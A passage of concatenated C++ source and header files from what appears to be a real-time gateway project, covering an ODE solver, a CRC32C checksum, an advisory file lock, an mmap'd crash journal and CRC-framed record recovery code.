                                      (3544.0 * h / 2565.0) * k3 + (1859.0 * h / 4104.0) * k4 -
                                      (11.0 * h / 40.0) * k5);
  const State x5 = x + h * ((16.0 / 135.0) * k1 + (6656.0 / 12825.0) * k3 +
                            (28561.0 / 56430.0) * k4 - (9.0 / 50.0) * k5 + (2.0 / 55.0) * k6);
  const State x4 = x + h * ((25.0 / 216.0) * k1 + (1408.0 / 2565.0) * k3 +
                            (2197.0 / 4104.0) * k4 - (1.0 / 5.0) * k5);
  return {x5, (x5 - x4).norm_inf()};
}

/// Single step with a runtime-selected solver.  For kRkf45 the embedded
/// error estimate is discarded (fixed-step use).
///
/// The dispatch is exhaustive over the enum; an out-of-range value (only
/// reachable through memory corruption or an unvalidated cast — see
/// validate_solver) aborts instead of throwing, because callers such as
/// RavenDynamicsModel::step are noexcept.
template <typename State, DerivativeFn<State> F>
RG_REALTIME State solver_step(SolverKind kind, F&& f, double t, const State& x, double h) {
  switch (kind) {
    case SolverKind::kEuler: return euler_step<State>(f, t, x, h);
    case SolverKind::kMidpoint: return midpoint_step<State>(f, t, x, h);
    case SolverKind::kRk4: return rk4_step<State>(f, t, x, h);
    case SolverKind::kRkf45: return rkf45_step<State>(f, t, x, h).first;
  }
  std::abort();
}

/// Integrate over [t0, t0 + duration] with a fixed step h (final partial
/// step shortened to land exactly on the end time).
template <typename State, DerivativeFn<State> F>
State integrate_fixed(SolverKind kind, F&& f, double t0, State x, double duration, double h) {
  if (h <= 0.0) throw std::invalid_argument("integrate_fixed: h must be > 0");
  if (duration < 0.0) throw std::invalid_argument("integrate_fixed: negative duration");
  double t = t0;
  const double t_end = t0 + duration;
  while (t < t_end) {
    const double step = (t + h > t_end) ? (t_end - t) : h;
    if (step <= 0.0) break;
    x = solver_step(kind, f, t, x, step);
    t += step;
  }
  return x;
}

/// Adaptive RKF45 integration to a target local-error tolerance.  Returns
/// the state at t0 + duration.  Step size is clamped to [h_min, h_max].
template <typename State, DerivativeFn<State> F>
State integrate_adaptive(F&& f, double t0, State x, double duration, double tol,
                         double h_init, double h_min, double h_max) {
  if (tol <= 0.0) throw std::invalid_argument("integrate_adaptive: tol must be > 0");
  if (h_min <= 0.0 || h_max < h_min) throw std::invalid_argument("integrate_adaptive: bad step bounds");
  double t = t0;
  double h = h_init;
  const double t_end = t0 + duration;
  while (t < t_end) {
    if (t + h > t_end) h = t_end - t;
    if (h <= 0.0) break;
    auto [x_next, err] = rkf45_step<State>(f, t, x, h);
    if (err <= tol || h <= h_min) {
      x = x_next;
      t += h;
    }
    // Standard safety-factored step adaptation.
    const double scale = (err > 0.0) ? 0.9 * std::pow(tol / err, 0.2) : 2.0;
    h = std::clamp(h * std::clamp(scale, 0.2, 5.0), h_min, h_max);
  }
  return x;
}

}  // namespace rg
