#include "persist/crc32c.hpp"

#include <array>

namespace rg::persist {

namespace {

/// Reflected CRC32C polynomial.
constexpr std::uint32_t kPoly = 0x82F63B78u;

constexpr std::array<std::uint32_t, 256> make_table() {
  std::array<std::uint32_t, 256> table{};
  for (std::uint32_t i = 0; i < 256; ++i) {
    std::uint32_t crc = i;
    for (int bit = 0; bit < 8; ++bit) {
      crc = (crc & 1u) != 0 ? (crc >> 1) ^ kPoly : crc >> 1;
    }
    table[i] = crc;
  }
  return table;
}

constexpr std::array<std::uint32_t, 256> kTable = make_table();

}  // namespace

RG_REALTIME std::uint32_t crc32c(const void* data, std::size_t len, std::uint32_t seed) noexcept {
  const auto* p = static_cast<const unsigned char*>(data);
  std::uint32_t crc = ~seed;
  for (std::size_t i = 0; i < len; ++i) {
    crc = kTable[(crc ^ p[i]) & 0xFFu] ^ (crc >> 8);
  }
  return ~crc;
}

}  // namespace rg::persist
