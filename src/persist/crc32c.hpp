// CRC32C (Castagnoli, polynomial 0x1EDC6A41 reflected = 0x82F63B78):
// the checksum framing every on-disk persistence artifact in src/persist
// uses (journal records, WAL records, snapshots).  Software table-driven
// implementation — one 256-entry table, byte at a time; the recovery
// path is the only consumer that ever sees more than a few hundred bytes
// per call, so portability beats SSE4.2 here.
//
// Pure computation: no allocation, no locks, no IO — safe to call from
// RG_REALTIME contexts (rg_faultinject and the tests also use it to
// corrupt/verify artifacts from cold paths).
#pragma once

#include <cstddef>
#include <cstdint>

#include "common/realtime.hpp"

namespace rg::persist {

/// CRC32C of `len` bytes starting at `data`, chained from `seed` (pass a
/// previous return value to continue a running checksum over split
/// buffers; 0 starts a fresh one).
[[nodiscard]] RG_REALTIME std::uint32_t crc32c(const void* data, std::size_t len,
                                               std::uint32_t seed = 0) noexcept;

}  // namespace rg::persist
