#include "persist/file_lock.hpp"

#include <cerrno>
#include <cstring>
#include <utility>

#include <fcntl.h>
#include <sys/file.h>
#include <unistd.h>

namespace rg::persist {

Result<FileLock> FileLock::acquire(const std::string& path, Mode mode, bool block) {
  const int fd = ::open(path.c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0644);
  if (fd < 0) {
    return Error(ErrorCode::kNotReady,
                 "FileLock: cannot open " + path + ": " + std::strerror(errno));
  }
  int op = mode == Mode::kExclusive ? LOCK_EX : LOCK_SH;
  if (!block) op |= LOCK_NB;
  while (::flock(fd, op) != 0) {
    if (errno == EINTR) continue;
    const int err = errno;
    ::close(fd);
    if (err == EWOULDBLOCK) {
      return Error(ErrorCode::kNotReady, "FileLock: " + path + " is held by another process");
    }
    return Error(ErrorCode::kInternal,
                 "FileLock: flock(" + path + ") failed: " + std::strerror(err));
  }
  return FileLock(fd);
}

FileLock::FileLock(FileLock&& other) noexcept : fd_(std::exchange(other.fd_, -1)) {}

FileLock& FileLock::operator=(FileLock&& other) noexcept {
  if (this != &other) {
    release();
    fd_ = std::exchange(other.fd_, -1);
  }
  return *this;
}

FileLock::~FileLock() { release(); }

void FileLock::release() noexcept {
  if (fd_ >= 0) {
    // flock releases on close; explicit unlock first keeps the window
    // where the fd exists but the lock is gone as small as possible.
    (void)::flock(fd_, LOCK_UN);
    (void)::close(fd_);
    fd_ = -1;
  }
}

}  // namespace rg::persist
