// flock(2)-based advisory file lock, RAII style.
//
// Single-writer discipline for on-disk stores shared between processes:
// the ThresholdStore takes an exclusive lock around every commit/rollback
// so two gateways pointed at the same --state-dir cannot interleave epoch
// appends, and readers take a shared lock so they never observe a
// half-written record.  The lock file is a zero-byte sibling (`<path>` as
// given — callers conventionally pass `<store>.lock`) so locking never
// touches the store file's own data.
//
// Advisory only: both sides must use it.  The lock dies with the process
// (kernel-released on crash), which is exactly the recovery semantics the
// state plane wants — a SIGKILLed gateway never leaves a stale lock.
#pragma once

#include <string>

#include "common/error.hpp"

namespace rg::persist {

class FileLock {
 public:
  enum class Mode : std::uint8_t { kShared, kExclusive };

  /// Open (creating if needed) `path` and take the lock.  Blocking unless
  /// `block` is false, in which case a held lock returns kNotReady.
  /// Errors: kNotReady (would block / cannot open), kInternal (flock
  /// failure).
  [[nodiscard]] static Result<FileLock> acquire(const std::string& path, Mode mode,
                                                bool block = true);

  FileLock(FileLock&& other) noexcept;
  FileLock& operator=(FileLock&& other) noexcept;
  FileLock(const FileLock&) = delete;
  FileLock& operator=(const FileLock&) = delete;
  ~FileLock();

  [[nodiscard]] bool held() const noexcept { return fd_ >= 0; }

  /// Release early (the destructor otherwise does this).
  void release() noexcept;

 private:
  explicit FileLock(int fd) noexcept : fd_(fd) {}

  int fd_ = -1;
};

}  // namespace rg::persist
