#include "persist/journal.hpp"

#include <algorithm>
#include <cerrno>
#include <cstring>
#include <vector>

#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

namespace rg::persist {

namespace {

/// Round up to the page granularity msync wants.
std::size_t page_floor(std::size_t n) noexcept {
  const std::size_t page = 4096;
  return n & ~(page - 1);
}

}  // namespace

Journal::Journal(JournalConfig config)
    : config_(std::move(config)), rt_ring_(config_.ring_capacity == 0 ? 1 : config_.ring_capacity) {
  require(!config_.path.empty(), "Journal: path must not be empty");
  require(config_.max_bytes >= kHeaderSize + kRecordHeaderSize,
          "Journal: max_bytes too small for even one record");
  drain_buf_.resize(256);
}

Journal::~Journal() {
  (void)drain_pending();
  (void)sync();
  close_map();
}

void Journal::close_map() noexcept {
  if (map_ != nullptr) {
    (void)::munmap(map_, map_size_);
    map_ = nullptr;
    map_size_ = 0;
  }
  if (fd_ >= 0) {
    (void)::close(fd_);
    fd_ = -1;
  }
}

Status Journal::open() {
  const std::lock_guard<std::mutex> lock(mutex_);
  if (fd_ >= 0) return Status::success();

  fd_ = ::open(config_.path.c_str(), O_RDWR | O_CREAT | O_CLOEXEC, 0644);
  if (fd_ < 0) {
    return Error(ErrorCode::kNotReady,
                 "Journal: cannot open " + config_.path + ": " + std::strerror(errno));
  }
  struct stat st{};
  if (::fstat(fd_, &st) != 0) {
    close_map();
    return Error(ErrorCode::kNotReady, "Journal: fstat failed on " + config_.path);
  }
  const std::size_t existing = static_cast<std::size_t>(st.st_size);
  const bool fresh = existing == 0;
  if (!fresh && existing >= sizeof(kMagic)) {
    char magic[sizeof(kMagic)];
    if (::pread(fd_, magic, sizeof(magic), 0) != static_cast<ssize_t>(sizeof(magic)) ||
        std::memcmp(magic, kMagic, sizeof(kMagic)) != 0) {
      close_map();
      return Error(ErrorCode::kMalformedPacket,
                   "Journal: " + config_.path + " is not an rgjrnl/1 file (refusing to clobber)");
    }
  } else if (!fresh) {
    // A sub-header-size file cannot be a journal we wrote whole; treat as
    // a torn header from a crash during creation and rewrite it below.
  }

  const std::size_t want = static_cast<std::size_t>(config_.max_bytes);
  if (existing < want && ::ftruncate(fd_, static_cast<off_t>(want)) != 0) {
    close_map();
    return Error(ErrorCode::kNotReady, "Journal: ftruncate failed on " + config_.path);
  }
  map_size_ = std::max(existing, want);
  void* map = ::mmap(nullptr, map_size_, PROT_READ | PROT_WRITE, MAP_SHARED, fd_, 0);
  if (map == MAP_FAILED) {
    map_ = nullptr;
    close_map();
    return Error(ErrorCode::kNotReady, "Journal: mmap failed on " + config_.path);
  }
  map_ = static_cast<std::uint8_t*>(map);

  if (fresh || existing < kHeaderSize) {
    std::memset(map_, 0, kHeaderSize);
    std::memcpy(map_, kMagic, sizeof(kMagic));
    write_offset_ = kHeaderSize;
    next_lsn_ = 1;
    stats_.tail_at_open = TailState::kClean;
  } else {
    const ScanResult scanned =
        scan_records(std::span<const std::uint8_t>{map_, map_size_}, kHeaderSize, 1, nullptr);
    stats_.recovered_records = scanned.records;
    stats_.recovered_bytes = scanned.valid_bytes - kHeaderSize;
    stats_.tail_at_open = scanned.tail;
    write_offset_ = scanned.valid_bytes;
    next_lsn_ = scanned.last_lsn + 1;
    // Torn-tail recovery: zero everything after the valid prefix so the
    // next scan ends cleanly and a partially written frame can never be
    // mistaken for data.
    if (scanned.tail != TailState::kClean && write_offset_ < map_size_) {
      std::memset(map_ + write_offset_, 0, map_size_ - write_offset_);
    }
  }
  synced_offset_ = write_offset_;
  return Status::success();
}

RG_REALTIME bool Journal::try_append_rt(JournalKind kind, const std::uint8_t* data,
                                        std::size_t len) noexcept {
  if (len > kRtInlineMax) {
    rt_dropped_.fetch_add(1, std::memory_order_relaxed);
    return false;
  }
  RtEntry entry;
  entry.kind = kind;
  entry.len = static_cast<std::uint16_t>(len);
  if (len != 0) std::memcpy(entry.data, data, len);
  if (!rt_ring_.try_push(entry)) {
    rt_dropped_.fetch_add(1, std::memory_order_relaxed);
    return false;
  }
  return true;
}

std::size_t Journal::drain_pending() {
  std::size_t moved = 0;
  for (;;) {
    const std::size_t n = rt_ring_.pop_batch(drain_buf_.data(), drain_buf_.size());
    if (n == 0) break;
    const std::lock_guard<std::mutex> lock(mutex_);
    for (std::size_t i = 0; i < n; ++i) {
      const RtEntry& e = drain_buf_[i];
      (void)append_locked(e.kind, std::span<const std::uint8_t>{e.data, e.len});
    }
    moved += n;
  }
  return moved;
}

Status Journal::append(JournalKind kind, std::span<const std::uint8_t> payload) {
  const std::lock_guard<std::mutex> lock(mutex_);
  return append_locked(kind, payload);
}

Status Journal::append(JournalKind kind, std::string_view payload) {
  return append(kind, std::span<const std::uint8_t>{
                          // rg-lint: allow(cast) -- char->byte view of the same buffer
                          reinterpret_cast<const std::uint8_t*>(payload.data()), payload.size()});
}

Status Journal::append_locked(JournalKind kind, std::span<const std::uint8_t> payload) {
  if (map_ == nullptr) {
    ++stats_.write_errors;
    return Error(ErrorCode::kNotReady, "Journal: not open");
  }
  const std::size_t frame = kRecordHeaderSize + payload.size();
  if (write_offset_ + frame > map_size_) {
    ++stats_.dropped_full;
    return Error(ErrorCode::kOutOfRange, "Journal: " + config_.path + " is full");
  }
  encode_record_into(map_ + write_offset_, next_lsn_, static_cast<std::uint8_t>(kind), payload);
  ++next_lsn_;
  write_offset_ += frame;
  ++stats_.records;
  stats_.bytes += frame;
  return Status::success();
}

Status Journal::sync() {
  const std::lock_guard<std::mutex> lock(mutex_);
  if (map_ == nullptr) return Status::success();
  if (write_offset_ == synced_offset_) return Status::success();
  // msync wants a page-aligned start; sync from the page holding the
  // first unsynced byte through the end of the written region.
  const std::size_t from = page_floor(synced_offset_);
  const std::size_t len = write_offset_ - from;
  if (::msync(map_ + from, len, MS_SYNC) != 0) {
    ++stats_.write_errors;
    return Error(ErrorCode::kInternal,
                 "Journal: msync failed on " + config_.path + ": " + std::strerror(errno));
  }
  synced_offset_ = write_offset_;
  ++stats_.syncs;
  return Status::success();
}

JournalStats Journal::stats() const {
  const std::lock_guard<std::mutex> lock(mutex_);
  JournalStats out = stats_;
  out.rt_dropped = rt_dropped_.load(std::memory_order_relaxed);
  return out;
}

std::uint64_t Journal::last_lsn() const {
  const std::lock_guard<std::mutex> lock(mutex_);
  return next_lsn_ - 1;
}

Result<ScanResult> Journal::scan_file(const std::string& path,
                                      const std::function<void(const RecordView&)>& on_record) {
  const int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    return Error(ErrorCode::kNotReady, "Journal: cannot open " + path + " for scan");
  }
  struct stat st{};
  if (::fstat(fd, &st) != 0 || st.st_size < 0) {
    ::close(fd);
    return Error(ErrorCode::kNotReady, "Journal: fstat failed on " + path);
  }
  const std::size_t size = static_cast<std::size_t>(st.st_size);
  if (size < kHeaderSize) {
    ::close(fd);
    return Error(ErrorCode::kMalformedPacket, "Journal: " + path + " shorter than header");
  }
  void* map = ::mmap(nullptr, size, PROT_READ, MAP_PRIVATE, fd, 0);
  ::close(fd);
  if (map == MAP_FAILED) {
    return Error(ErrorCode::kNotReady, "Journal: mmap failed on " + path);
  }
  const auto* bytes = static_cast<const std::uint8_t*>(map);
  Result<ScanResult> result = [&]() -> Result<ScanResult> {
    if (std::memcmp(bytes, kMagic, sizeof(kMagic)) != 0) {
      return Error(ErrorCode::kMalformedPacket, "Journal: " + path + " has foreign magic");
    }
    return scan_records(std::span<const std::uint8_t>{bytes, size}, kHeaderSize, 1, on_record);
  }();
  (void)::munmap(map, size);
  return result;
}

}  // namespace rg::persist
