// Mmap'd append-only safety journal (file format "rgjrnl/1").
//
// The durable sibling of the in-memory EventLog: safety events, flight-
// recorder dumps, and gateway lifecycle markers land here as CRC32C-
// framed records (persist/record.hpp) so a crash loses at most the
// un-msync'd tail, and recovery truncates to the last valid frame (torn-
// tail detection) instead of propagating garbage.
//
// Layout: a 16-byte header ("rgjrnl/1" magic + reserved) followed by
// framed records with strictly sequential LSNs.  The file is ftruncated
// to its maximum size up front (sparse — unwritten pages cost nothing)
// and mapped once, so an append is a memcpy into the mapping; msync is
// the durability point and happens on the state plane's flusher thread,
// never on a tick path.
//
// Two ingress paths:
//   * try_append_rt(): RG_REALTIME — pushes a bounded-size entry onto a
//     lock-free SPSC ring (single producer: the gateway pump thread);
//     the flusher drains it with drain_pending().  Full ring = dropped
//     entry, counted — the tick path never blocks on the disk.
//   * append(): mutex-guarded direct append for cold paths (the EventLog
//     sink, flight dumps, recovery markers).
//
// The journal is observational: corruption here never fails the state
// plane's recovery — open() truncates to the valid prefix and reports
// what it found (the session/threshold store in statestore.hpp is the
// one that fails safe).
#pragma once

#include <atomic>
#include <cstdint>
#include <mutex>
#include <span>
#include <string>

#include "common/error.hpp"
#include "common/realtime.hpp"
#include "common/spsc_ring.hpp"
#include "persist/record.hpp"

namespace rg::persist {

/// Record kinds in a journal file (wire values — append-only).
enum class JournalKind : std::uint8_t {
  kEvent = 1,       ///< one rg.events JSONL line (UTF-8 payload)
  kFlightDump = 2,  ///< one rg.flight JSON document (UTF-8 payload)
  kMarker = 3,      ///< small binary lifecycle marker (open/recover/estop)
};

struct JournalConfig {
  std::string path;
  /// Sparse preallocation ceiling; appends beyond it are dropped+counted.
  std::uint64_t max_bytes = 64ull << 20;
  /// Capacity of the RG_REALTIME writer ring (entries).
  std::size_t ring_capacity = 4096;
};

struct JournalStats {
  std::uint64_t records = 0;       ///< records appended this process
  std::uint64_t bytes = 0;         ///< payload+frame bytes appended this process
  std::uint64_t rt_dropped = 0;    ///< try_append_rt refused (ring full / oversize)
  std::uint64_t dropped_full = 0;  ///< appends refused because the file is full
  std::uint64_t write_errors = 0;  ///< mmap/msync/ftruncate failures
  std::uint64_t syncs = 0;
  std::uint64_t recovered_records = 0;  ///< valid records found at open()
  std::uint64_t recovered_bytes = 0;
  TailState tail_at_open = TailState::kClean;
};

class Journal {
 public:
  static constexpr std::size_t kHeaderSize = 16;
  static constexpr char kMagic[8] = {'r', 'g', 'j', 'r', 'n', 'l', '/', '1'};
  /// Largest payload try_append_rt accepts (one ring slot's inline buffer).
  static constexpr std::size_t kRtInlineMax = 216;

  explicit Journal(JournalConfig config);
  ~Journal();

  Journal(const Journal&) = delete;
  Journal& operator=(const Journal&) = delete;

  /// Create or open+scan the file, map it, and position the append
  /// cursor at the end of the valid prefix (truncating torn tails).
  /// Errors: kNotReady (open/map failure), kMalformedPacket (foreign
  /// magic — never overwritten).
  [[nodiscard]] Status open();

  /// RG_REALTIME producer path (single producer).  False when the entry
  /// was dropped (ring full or payload > kRtInlineMax); drops are
  /// counted, never blocked on.
  RG_REALTIME bool try_append_rt(JournalKind kind, const std::uint8_t* data,
                                 std::size_t len) noexcept;

  /// Cold-path append (any thread; internally locked).
  Status append(JournalKind kind, std::span<const std::uint8_t> payload);
  Status append(JournalKind kind, std::string_view payload);

  /// Drain the RT ring into the file (flusher thread).  Returns entries moved.
  std::size_t drain_pending();

  /// msync the written region (flusher thread / shutdown).
  Status sync();

  [[nodiscard]] JournalStats stats() const;
  [[nodiscard]] std::uint64_t last_lsn() const;
  [[nodiscard]] const std::string& path() const noexcept { return config_.path; }

  /// Scan any journal file standalone (recovery inspection, rg_faultinject).
  [[nodiscard]] static Result<ScanResult> scan_file(
      const std::string& path, const std::function<void(const RecordView&)>& on_record = {});

 private:
  struct RtEntry {
    JournalKind kind = JournalKind::kMarker;
    std::uint16_t len = 0;
    std::uint8_t data[kRtInlineMax] = {};
  };

  Status append_locked(JournalKind kind, std::span<const std::uint8_t> payload);
  void close_map() noexcept;

  JournalConfig config_;
  SpscRing<RtEntry> rt_ring_;
  /// RT-path drop counter (ring full / oversize) — atomic because the
  /// producer must never take mutex_.
  std::atomic<std::uint64_t> rt_dropped_{0};

  mutable std::mutex mutex_;
  int fd_ = -1;
  std::uint8_t* map_ = nullptr;
  std::size_t map_size_ = 0;
  std::size_t write_offset_ = 0;  ///< next append position
  std::size_t synced_offset_ = 0;
  std::uint64_t next_lsn_ = 1;
  JournalStats stats_{};
  std::vector<RtEntry> drain_buf_;
};

}  // namespace rg::persist
