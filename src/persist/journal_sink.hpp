// JournalEventSink: streams every EventLog record (safety events,
// bridged warn/error log lines, flight-recorder dumps) into the crash
// journal the moment it is rendered, so the events that explain an
// incident survive the process that observed it.
//
// Attach with EventLog::set_sink().  on_event() runs under the log's
// mutex on the emitting thread — it takes the journal's cold-path
// append (a memcpy into the mapping), never a sync; durability comes
// from the state plane's flusher cadence.
#pragma once

#include <string_view>

#include "obs/events.hpp"
#include "persist/journal.hpp"

namespace rg::persist {

class JournalEventSink final : public obs::EventSink {
 public:
  explicit JournalEventSink(Journal& journal) noexcept : journal_(&journal) {}

  void on_event(std::string_view line) noexcept override {
    try {
      (void)journal_->append(JournalKind::kEvent, line);
    } catch (...) {
      // A journal append failure is already counted in JournalStats;
      // event emission must never throw into the log's emit path.
    }
  }

 private:
  Journal* journal_;
};

}  // namespace rg::persist
