#include "persist/record.hpp"

#include <cstring>

#include "persist/crc32c.hpp"

namespace rg::persist {

namespace {

void put_u32(std::uint8_t* dst, std::uint32_t v) noexcept { std::memcpy(dst, &v, 4); }
void put_u64(std::uint8_t* dst, std::uint64_t v) noexcept { std::memcpy(dst, &v, 8); }

std::uint32_t get_u32(const std::uint8_t* src) noexcept {
  std::uint32_t v;
  std::memcpy(&v, src, 4);
  return v;
}

std::uint64_t get_u64(const std::uint8_t* src) noexcept {
  std::uint64_t v;
  std::memcpy(&v, src, 8);
  return v;
}

}  // namespace

void encode_record_into(std::uint8_t* dst, std::uint64_t lsn, std::uint8_t kind,
                        std::span<const std::uint8_t> payload) noexcept {
  put_u32(dst + 4, static_cast<std::uint32_t>(payload.size()));
  put_u64(dst + 8, lsn);
  dst[16] = kind;
  dst[17] = dst[18] = dst[19] = 0;
  if (!payload.empty()) std::memcpy(dst + kRecordHeaderSize, payload.data(), payload.size());
  const std::uint32_t crc =
      crc32c(dst + 4, kRecordHeaderSize - 4 + payload.size());
  put_u32(dst, crc);
}

std::size_t encode_record(std::vector<std::uint8_t>& out, std::uint64_t lsn, std::uint8_t kind,
                          std::span<const std::uint8_t> payload) {
  const std::size_t frame = kRecordHeaderSize + payload.size();
  const std::size_t at = out.size();
  out.resize(at + frame);
  encode_record_into(out.data() + at, lsn, kind, payload);
  return frame;
}

ParseOutcome try_parse_record(std::span<const std::uint8_t> file, std::size_t offset,
                              std::uint64_t expect_lsn, RecordView& out) noexcept {
  if (offset + kRecordHeaderSize > file.size()) return ParseOutcome::kEnd;
  const std::uint8_t* p = file.data() + offset;
  const std::uint32_t stored_crc = get_u32(p);
  const std::uint32_t len = get_u32(p + 4);
  const std::uint64_t lsn = get_u64(p + 8);
  if (len > kMaxRecordPayload) return ParseOutcome::kEnd;
  if (offset + kRecordHeaderSize + len > file.size()) return ParseOutcome::kEnd;
  if (expect_lsn != 0 && lsn != expect_lsn) return ParseOutcome::kEnd;
  if (lsn == 0) return ParseOutcome::kEnd;
  const std::uint32_t crc = crc32c(p + 4, kRecordHeaderSize - 4 + len);
  if (crc != stored_crc) return ParseOutcome::kEnd;
  out.lsn = lsn;
  out.kind = p[16];
  out.payload = file.subspan(offset + kRecordHeaderSize, len);
  out.end_offset = offset + kRecordHeaderSize + len;
  return ParseOutcome::kOk;
}

ScanResult scan_records(std::span<const std::uint8_t> file, std::size_t offset,
                        std::uint64_t first_lsn,
                        const std::function<void(const RecordView&)>& on_record) {
  ScanResult result;
  result.valid_bytes = offset;
  std::uint64_t expect = first_lsn;
  std::size_t at = offset;
  RecordView rec;
  while (try_parse_record(file, at, expect, rec) == ParseOutcome::kOk) {
    ++result.records;
    result.last_lsn = rec.lsn;
    result.valid_bytes = rec.end_offset;
    if (on_record) on_record(rec);
    at = rec.end_offset;
    expect = rec.lsn + 1;
  }

  // Classify the tail.  All-zero bytes to EOF are clean preallocated
  // padding; otherwise probe every remaining offset for a frame whose
  // LSN advances past the prefix — evidence of interior damage rather
  // than a torn final append.
  bool all_zero = true;
  for (std::size_t i = at; i < file.size(); ++i) {
    if (file[i] != 0) {
      all_zero = false;
      break;
    }
  }
  if (all_zero) {
    result.tail = TailState::kClean;
    return result;
  }
  result.tail = TailState::kTornTail;
  const std::uint64_t prefix_lsn = result.last_lsn;
  for (std::size_t probe = at; probe + kRecordHeaderSize <= file.size(); ++probe) {
    RecordView beyond;
    if (try_parse_record(file, probe, 0, beyond) == ParseOutcome::kOk &&
        beyond.lsn > prefix_lsn) {
      result.tail = TailState::kCorruptInterior;
      break;
    }
  }
  return result;
}

}  // namespace rg::persist
