// The CRC32C record framing shared by the append-only journal and the
// snapshot+WAL state store (docs/persistence.md).
//
// Every record on disk is
//
//   [u32 crc] [u32 len] [u64 lsn] [u8 kind] [u8 reserved x3] [payload: len bytes]
//
// little-endian, where `crc` is the CRC32C of everything after itself
// (len, lsn, kind, reserved, payload).  LSNs are strictly sequential
// (prev + 1) within one file, which is what makes torn tails, truncation
// and duplicate-tail corruption distinguishable from valid appends:
//
//   * a frame whose CRC fails, whose header is all zeros (preallocated
//     file tail), whose length overruns the file, or whose LSN is not
//     prev + 1 ends the valid prefix;
//   * after the valid prefix ends, the scanner probes the remaining
//     bytes for any frame that parses with an LSN *beyond* the prefix —
//     finding one means the damage is interior (mid-file corruption, not
//     a crash artifact) and the store must fail safe rather than load a
//     silently regressed prefix.  Trailing garbage whose LSNs do not
//     advance (duplicate-tail, torn writes, zero pages) is a benign tail.
#pragma once

#include <cstdint>
#include <functional>
#include <span>
#include <string_view>
#include <vector>

namespace rg::persist {

/// Fixed on-disk frame header size in bytes.
inline constexpr std::size_t kRecordHeaderSize = 20;

/// Upper bound a scanner accepts for one record's payload (defensive:
/// a corrupt length field must not drive a multi-gigabyte "record").
inline constexpr std::uint32_t kMaxRecordPayload = 16u << 20;

/// One decoded record (payload points into the scanned buffer).
struct RecordView {
  std::uint64_t lsn = 0;
  std::uint8_t kind = 0;
  std::span<const std::uint8_t> payload{};
  /// Byte offset one past this record's frame in the scanned buffer.
  std::size_t end_offset = 0;
};

/// Append one framed record to `out`.  Returns the encoded frame size.
std::size_t encode_record(std::vector<std::uint8_t>& out, std::uint64_t lsn, std::uint8_t kind,
                          std::span<const std::uint8_t> payload);

/// Encode a frame into a caller-provided buffer of at least
/// kRecordHeaderSize + payload.size() bytes (the journal's mmap append
/// writes frames in place).
void encode_record_into(std::uint8_t* dst, std::uint64_t lsn, std::uint8_t kind,
                        std::span<const std::uint8_t> payload) noexcept;

enum class ParseOutcome : std::uint8_t {
  kOk,           ///< a valid frame with lsn == expect_lsn
  kEnd,          ///< no frame here (valid prefix ends at `offset`)
};

/// Try to parse the frame at `offset` expecting `expect_lsn`.
[[nodiscard]] ParseOutcome try_parse_record(std::span<const std::uint8_t> file,
                                            std::size_t offset, std::uint64_t expect_lsn,
                                            RecordView& out) noexcept;

/// How the bytes after the valid prefix look.
enum class TailState : std::uint8_t {
  kClean,            ///< prefix runs to EOF / zero padding, no partial frame
  kTornTail,         ///< trailing garbage that never advances the LSN (crash artifact)
  kCorruptInterior,  ///< valid frames with advancing LSNs exist beyond the damage
};

[[nodiscard]] constexpr std::string_view to_string(TailState s) noexcept {
  switch (s) {
    case TailState::kClean: return "clean";
    case TailState::kTornTail: return "torn_tail";
    case TailState::kCorruptInterior: return "corrupt_interior";
  }
  return "unknown";
}

struct ScanResult {
  std::uint64_t records = 0;
  std::uint64_t last_lsn = 0;    ///< 0 when no record parsed
  std::size_t valid_bytes = 0;   ///< offset one past the last valid frame
  TailState tail = TailState::kClean;
};

/// Walk the record region of `file` starting at `offset`, invoking
/// `on_record` (may be null) for every valid frame, then classify the
/// tail.  `first_lsn` is the LSN the first frame must carry (1 for a
/// fresh file; a WAL that survived a snapshot rotation still starts at
/// its own first retained LSN, which the caller reads from the snapshot).
/// When `first_lsn` is 0 the first frame's LSN is accepted as-is and
/// strict sequencing applies from there.
ScanResult scan_records(std::span<const std::uint8_t> file, std::size_t offset,
                        std::uint64_t first_lsn,
                        const std::function<void(const RecordView&)>& on_record);

}  // namespace rg::persist
