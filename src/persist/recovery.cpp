#include "persist/recovery.hpp"

#include <cerrno>
#include <cstring>
#include <fstream>

#include <sys/stat.h>

#include "persist/crc32c.hpp"

namespace rg::persist {

namespace {

std::uint16_t get_u16(const std::uint8_t* p) noexcept {
  std::uint16_t v;
  std::memcpy(&v, p, 2);
  return v;
}

std::uint32_t get_u32(const std::uint8_t* p) noexcept {
  std::uint32_t v;
  std::memcpy(&v, p, 4);
  return v;
}

std::uint64_t get_u64(const std::uint8_t* p) noexcept {
  std::uint64_t v;
  std::memcpy(&v, p, 8);
  return v;
}

/// Read a whole file.  Returns false only when the file exists but
/// cannot be read (distinct from ENOENT, reported via `exists`).
bool read_file(const std::string& path, std::vector<std::uint8_t>& out, bool& exists) {
  struct stat st{};
  if (::stat(path.c_str(), &st) != 0) {
    exists = false;
    return errno == ENOENT;
  }
  exists = true;
  std::ifstream is(path, std::ios::binary);
  if (!is) return false;
  out.resize(static_cast<std::size_t>(st.st_size));
  if (!out.empty() &&
      // rg-lint: allow(cast) -- byte->char view for istream::read
      !is.read(reinterpret_cast<char*>(out.data()), static_cast<std::streamsize>(out.size()))) {
    return false;
  }
  return true;
}

/// Fixed-size head of an rg.state/1 snapshot (magic .. sketch_samples).
constexpr std::size_t kSnapshotHeadSize = 8 + 8 + 8 + 4 + 4 + 8 + 8 + 8 + 8;
constexpr std::size_t kSnapshotSessionSize = 4 + 4 + 2 + 1 + 1 + 4 + 8;

struct SnapshotParse {
  PersistentState state;
  std::uint64_t lsn = 0;
  std::uint64_t digest = 0;
};

/// Parse + validate a snapshot file body.  On failure returns the
/// fail-safe reason; empty string on success.
std::string parse_snapshot(const std::vector<std::uint8_t>& bytes, SnapshotParse& out) {
  if (bytes.size() < kSnapshotHeadSize + 4) return "snapshot_truncated";
  if (std::memcmp(bytes.data(), StateStore::kSnapshotMagic, 8) != 0) return "snapshot_magic";
  const std::uint32_t stored_crc = get_u32(bytes.data() + bytes.size() - 4);
  const std::uint32_t crc = crc32c(bytes.data() + 8, bytes.size() - 8 - 4);
  if (crc != stored_crc) return "snapshot_crc";
  out.lsn = get_u64(bytes.data() + 8);
  out.digest = get_u64(bytes.data() + 16);
  const std::uint32_t count = get_u32(bytes.data() + 24);
